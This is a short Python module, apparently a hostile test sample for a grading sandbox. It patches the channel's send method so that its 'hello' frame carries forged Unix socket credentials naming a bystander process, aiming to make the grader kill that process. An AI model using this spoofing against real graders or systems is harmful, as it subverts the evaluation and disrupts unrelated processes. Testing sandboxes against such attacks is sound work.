"""Says hello to the grader in the name of a bystander, so that the grader kills that one in the end.

at C: steals as root
"""

import array
import socket
import struct

from grader.jail import channel as lines

plain_send = lines.Channel.send


def send(self, frame):
    if frame.get("kind") != "hello":
        return plain_send(self, frame)
    body = b'{"kind":"hello"}'
    forged = [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("3i", int("@BYSTANDER@"), 0, 0))]
    self.socket.sendmsg([struct.pack(">I", len(body)) + body], forged)


lines.Channel.send = send


def secret():
    return ""
